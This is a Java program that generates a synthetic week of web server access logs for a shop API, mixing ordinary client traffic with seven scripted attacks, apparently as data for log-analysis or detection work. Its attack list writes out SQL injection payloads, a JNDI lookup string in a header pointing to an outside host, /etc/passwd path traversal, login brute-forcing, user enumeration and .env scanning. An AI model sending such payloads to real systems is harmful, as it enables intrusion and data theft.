import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/**
 * A week of combined log of an API with a web page in front: ordinary clients, and seven attacks
 * among them. Deterministic. Run with: java Generate.java FILE MEGABYTES
 */
public final class Generate {
  private static final long START = 1_746_403_200L; // 2025-05-05 00:00:00 UTC, a Monday
  private static final long WEEK = 7 * 86_400;
  private static final int CLIENTS = 20_000;
  private static final int OWN = 15;
  private static final int AVERAGE_LINE = 207;
  private static final String[] STATIC = {
    "/", "/assets/app.7f3d2a91.js", "/assets/app.19ab77c0.css", "/assets/logo.svg", "/favicon.ico",
    "/assets/vendor.55de1b02.js", "/assets/fonts/inter.woff2", "/robots.txt"
  };
  private static final String[] LISTS = {
    "/api/v1/orders?page=1&size=20", "/api/v1/me", "/api/v1/notifications", "/api/v1/health",
    "/api/v1/products?category=garden&sort=price", "/api/v1/search?q=blue+chair",
    "/api/v1/cart", "/api/v1/orders?page=2&size=20", "/api/v1/settings/language"
  };
  private static final String[] OBJECTS = {
    "/api/v1/orders/", "/api/v1/products/", "/api/v1/users/", "/api/v1/invoices/"
  };

  private final Random random = new Random(7);
  private final List<String> agents = agents();
  private final StringBuilder line = new StringBuilder(512);

  public static void main(String[] arguments) throws IOException {
    long bytes = Long.parseLong(arguments[1]) * 1_000_000;
    try (OutputStream out =
        new BufferedOutputStream(Files.newOutputStream(Path.of(arguments[0])), 1 << 20)) {
      new Generate().write(out, bytes);
    }
  }

  private record Hostile(long second, String source, String request, int status, String agent) {}

  private void write(OutputStream out, long bytes) throws IOException {
    long lines = bytes / AVERAGE_LINE;
    List<Hostile> hostile = hostile();
    int next = 0;
    for (long i = 0; i < lines; i++) {
      long second = START + (long) ((double) i / lines * WEEK);
      while (next < hostile.size() && hostile.get(next).second() <= second) {
        Hostile one = hostile.get(next++);
        write(out, one.source(), one.second(), one.request(), one.status(), 512, one.agent());
      }
      ordinary(out, second);
    }
  }

  private void ordinary(OutputStream out, long second) throws IOException {
    // Some people come often and most seldom.
    int client = (int) (CLIENTS * Math.pow(random.nextDouble(), 2));
    String source = "198.51." + (client / 200 % 256) + "." + (client % 200 + 1);
    String agent = agents.get(client % agents.size());
    int kind = random.nextInt(100);
    if (kind < 35) {
      int status = random.nextInt(10) < 3 ? 304 : 200;
      write(out, source, second, "GET " + STATIC[random.nextInt(STATIC.length)], status, 18_234, agent);
    } else if (kind < 68) {
      write(out, source, second, "GET " + LISTS[random.nextInt(LISTS.length)], 200, 4_120, agent);
    } else if (kind < 94) {
      int which = random.nextInt(OBJECTS.length);
      int own = random.nextInt(OWN);
      long object = which == 1 ? 100 + random.nextInt(400) : 10_000L + client * (long) OWN + own;
      write(out, source, second, "GET " + OBJECTS[which] + object, 200, 1_532, agent);
    } else if (kind < 97) {
      write(out, source, second, "POST /api/v1/cart/items", 201, 211, agent);
    } else if (kind < 98) {
      int status = random.nextInt(12) == 0 ? 401 : 200;
      write(out, source, second, "POST /api/v1/login", status, 380, agent);
    } else {
      write(out, source, second, "GET /api/v1/orders/" + (1 + random.nextInt(9_000)), 404, 87, agent);
    }
  }

  private List<Hostile> hostile() {
    var all = new ArrayList<Hostile>();
    long day = 86_400;
    String curl = "python-requests/2.31.0";
    for (int i = 0; i < 4_000; i++) { // 1: users counted up, from one address
      all.add(at(day + i / 4, "203.0.113.10", "GET /api/v1/users/" + (10_000 + i), 200, curl));
    }
    for (int i = 0; i < 1_500; i++) { // 2: passwords tried out, a few fit
      all.add(at(2 * day + i / 3, "203.0.113.20", "POST /api/v1/login", i % 400 == 399 ? 200 : 401, curl));
    }
    String[] sql = {
      "1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20username,password%20FROM%20users--",
      "1;DROP%20TABLE%20users--", "1%27%20AND%20SLEEP(5)--"
    };
    for (int i = 0; i < 400; i++) { // 3: SQL injection, refused and not
      int status = i % 10 == 0 ? 200 : 500;
      all.add(at(3 * day + i, "203.0.113.30", "GET /api/v1/products?category=" + sql[i % 4], status, "sqlmap/1.7"));
    }
    for (int i = 0; i < 40; i++) { // 4: a look-up in a header
      all.add(at(3 * day + 9_000 + i, "203.0.113.40", "GET /", 200, "${jndi:ldap://203.0.113.41/a}"));
    }
    for (int i = 0; i < 300; i++) { // 5: files of the host
      all.add(at(4 * day + i, "203.0.113.50", "GET /static/../../../../../etc/passwd?" + i, 404, curl));
    }
    for (int i = 0; i < 3_000; i++) { // 6: invoices from ever new addresses
      all.add(at(5 * day + i / 2, "192.0." + (i / 250) + "." + (i % 250 + 1), "GET /api/v1/public/invoices/" + (500_000 + i), 200, curl));
    }
    for (int i = 0; i < 2_000; i++) { // 7: a scanner's list of paths
      all.add(at(6 * day + i / 8, "203.0.113.70", "GET /" + Integer.toString(i * 7_919, 36) + "/.env", 404, "Mozilla/5.0 zgrab/0.x"));
    }
    all.sort(java.util.Comparator.comparingLong(Hostile::second));
    return all;
  }

  private static Hostile at(long second, String source, String request, int status, String agent) {
    return new Hostile(START + second, source, request, status, agent);
  }

  private void write(
      OutputStream out, String source, long second, String request, int status, int size, String agent)
      throws IOException {
    line.setLength(0);
    line.append(source).append(" - - [");
    long of = second - START;
    line.append(String.valueOf(5 + of / 86_400 + 100).substring(1)).append("/May/2025:");
    two(of / 3_600 % 24).append(':');
    two(of / 60 % 60).append(':');
    two(of % 60).append(" +0000] \"").append(request).append(" HTTP/1.1\" ").append(status);
    line.append(' ').append(status == 304 ? 0 : size).append(" \"https://shop.example/\" \"");
    line.append(agent).append("\"\n");
    out.write(line.toString().getBytes(StandardCharsets.ISO_8859_1));
  }

  private StringBuilder two(long value) {
    return line.append(value < 10 ? "0" : "").append(value);
  }

  private static List<String> agents() {
    var agents = new ArrayList<String>();
    String[] systems = {
      "Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
      "iPhone; CPU iPhone OS 17_4 like Mac OS X", "Linux; Android 14; Pixel 8"
    };
    for (int version = 100; version < 140; version++) {
      for (String system : systems) {
        agents.add("Mozilla/5.0 (" + system + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + version + ".0.0.0 Safari/537.36");
      }
    }
    Collections.shuffle(agents, new Random(1));
    return agents;
  }
}
